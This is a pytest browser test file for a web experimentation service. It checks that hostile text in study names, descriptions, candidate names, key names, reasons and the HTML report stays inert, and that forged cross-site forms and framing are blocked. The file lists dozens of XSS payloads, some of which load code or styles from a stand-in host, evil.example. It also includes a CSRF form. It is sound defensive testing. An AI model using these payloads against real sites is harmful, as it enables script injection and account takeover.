"""Injection: hostile text in every field that a page renders stays text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from pasto.control_characters import find_control
from pasto_sdk.policy import PublishedPolicy

if TYPE_CHECKING:
    from tests.browser.conftest import Site

pytestmark = pytest.mark.services

TAGS = [
    "img src=x onerror={}",
    "svg onload={}",
    "body onload={}",
    "iframe src=javascript:{}",
    "details open ontoggle={}",
]
CALLS = ["alert(1)", "alert`1`", "window.hacked=1", "top['al'+'ert'](1)", "import('//evil.example/x.js')"]
FRAMES = ["<{}>", "\"'><{}>"]
HOSTILE = [frame.format(tag.format(call)) for frame in FRAMES for tag in TAGS for call in CALLS] + [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>window.hacked=1</script>",
    "javascript:alert(1)",
    "{{ constructor.constructor('alert(1)')() }}",
    "${alert(1)}",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<div hx-get='/new' hx-trigger='load' hx-on:load='alert(1)'></div>",
    "<form action='//evil.example/'><button>x</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
]


def document(name: str, **changes: Any) -> dict[str, Any]:
    return {
        "name": name,
        "baseline": {"w": "plain"},
        "candidates": [{"w": "plain"}, {"w": "other"}],
        "metrics": {"watch": {"event": "watch", "aggregate": "count", "cap": 20}},
        "goal": {"maximize": "watch"},
        "rounds": {"every": "1h"},
        **changes,
    }


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 50


def test_hostile_text_in_every_field_stays_text(site: Site, visit: Any) -> None:
    desktop = visit("desktop")
    client = site.client
    for number, text in enumerate(HOSTILE):
        made = client.post("/v1/studies", json=document(f"s{number}", description=text))
        assert made.status_code in (201, 422)
    rows = [{"w": "plain"}]
    for text in HOSTILE:
        tried = document("tried", candidates=[*rows, {"w": text}])
        if client.post("/v1/studies", json={**tried, "name": f"t{len(rows)}"}).status_code == 201:
            rows.append({"w": text})
    client.post("/v1/studies", json=document("hostile", candidates=rows)).raise_for_status()
    client.patch("/v1/studies/hostile", json={"action": "start", "reason": HOSTILE[0]}).raise_for_status()
    change = {"action": "pause", "reason": "\u202e<script>alert(1)</script>"}
    assert client.patch("/v1/studies/hostile", json=change).json()["error"]["code"] == "invalid_text"
    for place, text in enumerate(text for text in HOSTILE if find_control(text) is None):
        action = "resume" if place % 2 else "pause"
        client.patch("/v1/studies/hostile", json={"action": action, "reason": text}).raise_for_status()
    desktop.go("/")
    desktop.save_screenshot("13-hostile-list")
    check_page(desktop)
    desktop.go("/studies/hostile")
    desktop.wait_until_loaded()
    desktop.page.get_by_text(HOSTILE[0]).first.wait_for()
    desktop.save_screenshot("14-hostile")
    check_page(desktop)
    # An error of a study file names the field.
    desktop.go("/new")
    wrong = document("wrong", **dict.fromkeys(HOSTILE, 1), metrics={text: {"event": text} for text in HOSTILE})
    desktop.page.get_by_label("Study file").fill(json.dumps(wrong))
    desktop.page.get_by_role("button", name="Create the study").click()
    desktop.page.get_by_text("things to mend").wait_for()
    check_page(desktop)
    for path in ("/studies/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/login?next=javascript:alert(1)"):
        desktop.go(path)
        check_page(desktop)


def check_page(watched: Any) -> None:
    watched.check()
    assert watched.page.evaluate("window.hacked") is None
    assert (
        watched.page.evaluate("document.querySelectorAll('main img, main iframe, main script, main base').length") == 0
    )


def test_hostile_candidates_keys_and_senders_in_a_learned_study(site: Site, visit: Any, tmp_path: Path) -> None:
    """Check charts, tables, the trade-off, the audit log and the report with hostile names."""
    client = site.client
    texts = [text for text in HOSTILE if accepted(client, text)]
    assert len(texts) >= 50
    metrics = {
        "watch": {"event": "watch", "aggregate": "count", "cap": 20},
        **{
            f"m{place}": {"event": "watch", "aggregate": "count", "cap": 20, "where": {"surface": chunk}}
            for place, chunk in enumerate(texts[start : start + 30] for start in range(0, len(texts), 30))
        },
    }
    rows = [{"w": "plain"}, *({"w": text} for text in texts)]
    guardrails = [{"metric": "m0", "at_least": 0.0002, "stop_at": 0.0001}]
    made = document("hostile", candidates=rows, metrics=metrics, description=texts[0], guardrails=guardrails)
    client.post("/v1/studies", json=made).raise_for_status()
    client.patch("/v1/studies/hostile", json={"action": "start", "reason": texts[0]}).raise_for_status()
    for round in range(2):
        policy = PublishedPolicy.from_text(client.get("/v1/studies/hostile/policy").text)
        events = []
        for number in range(1500):
            unit = f"{number} {texts[number % len(texts)]}"[:200]
            cell = policy.draw(unit)
            drawn = {"unit": unit, "version": policy.version, "candidate": cell.name}
            at = f"{round}/{number}{texts[number % len(texts)]}"[:120]
            events.append(
                {"type": "exposure", "id": f"e{at}", "source": texts[round][:60], "sequence": number + 1, **drawn}
            )
            fields = {"surface": texts[number % len(texts)]}
            events.append({"type": "metric", "id": f"w{at}", "name": "watch", "fields": fields, **drawn})
        response = client.post("/v1/studies/hostile/events", json=events).json()
        assert response["rejected"] == []
        client.post("/v1/studies/hostile/rounds/close", json={"reason": texts[round]}).raise_for_status()
    keys = []
    for text in [text for text in texts if len(text) <= 100]:
        named = client.post("/v1/keys", json={"name": text, "scopes": ["admin"]})
        named.raise_for_status()
        keys.append(named.json()["key"])
        client.headers["authorization"] = f"Bearer {keys[-1]}"
        action = "resume" if len(keys) % 2 == 0 else "pause"
        client.patch("/v1/studies/hostile", json={"action": action, "reason": text}).raise_for_status()
    assert len(keys) >= 50
    desktop = visit("desktop")
    desktop.go("/studies/hostile")
    for key in (HOSTILE[0], keys[0]):  # a wrong key gives an error, then a key with a hostile name logs in
        desktop.page.get_by_label("Key").fill(key)
        desktop.page.get_by_role("button", name="Log in").click()
        desktop.page.wait_for_load_state()
        check_page(desktop)
    desktop.wait_until_loaded()
    desktop.page.get_by_text("Candidates of the blend").wait_for()
    desktop.page.locator("#tradeoff svg circle").first.wait_for()
    desktop.page.locator("#metrics canvas").first.wait_for()
    for fold in desktop.page.locator("details:not(.menu) > summary").all():
        fold.click()
    desktop.page.get_by_role("button", name="With closes of rounds").click()
    desktop.expect("text=Without closes of rounds").to_have_count(1)
    desktop.save_screenshot("16-hostile-learned")
    check_page(desktop)
    phone = visit("phone")
    phone.page.context.add_cookies(desktop.page.context.cookies())
    phone.go("/studies/hostile")
    phone.wait_until_loaded()
    check_page(phone)
    for path in ("series?first=<script>", "tradeoff?at0=<script>alert(1)</script>", "tradeoff?<img src=x>=1"):
        desktop.go(f"/studies/hostile/{path}")
        assert desktop.trouble == []
    # A form that is rendered again with the entered text.
    desktop.go("/new")
    desktop.page.get_by_label("Study file").fill("</textarea><img src=x onerror=alert(1)>: [")
    desktop.page.get_by_label("Why").fill('"><img src=x onerror=alert(1)>')
    desktop.page.get_by_role("button", name="Create the study").click()
    desktop.page.get_by_text("to mend").wait_for()
    check_page(desktop)
    # The report is opened from a file, without protection by headers.
    saved = tmp_path / "report.html"
    saved.write_text(client.get("/v1/studies/hostile/report?format=html").text, encoding="utf-8")
    popped: list[str] = []
    page = desktop.page.context.new_page()

    def dismissed(dialog: Any) -> None:
        popped.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismissed)
    page.on("request", lambda request: popped.append(request.url) if not request.url.startswith("file:") else None)
    page.goto(saved.as_uri())
    page.wait_for_load_state()
    assert popped == []
    assert page.evaluate("[window.hacked, document.querySelectorAll('script, iframe, base, link').length]") == [None, 0]


def accepted(client: Any, text: str) -> bool:
    """Return true if a candidate may have this name."""
    name = f"try-{abs(hash(text))}"
    made = client.post("/v1/studies", json=document(name, candidates=[{"w": "plain"}, {"w": text}]))
    return bool(made.status_code == 201)


def test_a_page_elsewhere_can_change_nothing(site: Site, visit: Any) -> None:
    client = site.client
    client.post("/v1/studies", json=document("feed")).raise_for_status()
    desktop = visit("desktop")
    desktop.go("/studies/feed")
    evil = f"""<form method=post action="{site.url}/studies/feed/change"><input name=action value=archive>
        <input name=reason value=x><input name=token value={"0" * 64}></form>"""
    desktop.page.context.route("http://evil.example/", lambda route: route.fulfill(body=evil, content_type="text/html"))
    desktop.page.goto("http://evil.example/")
    desktop.page.evaluate("document.forms[0].submit()")
    desktop.page.get_by_role("heading", name="Not allowed").wait_for()
    assert client.get("/v1/studies/feed").json()["state"] == "draft"
    framed = f"<iframe src='{site.url}/studies/feed'></iframe>"
    desktop.page.context.unroute("http://evil.example/")
    desktop.page.context.route(
        "http://evil.example/", lambda route: route.fulfill(body=framed, content_type="text/html")
    )
    desktop.page.goto("http://evil.example/")
    assert desktop.page.frames[1].url.startswith("chrome-error:")
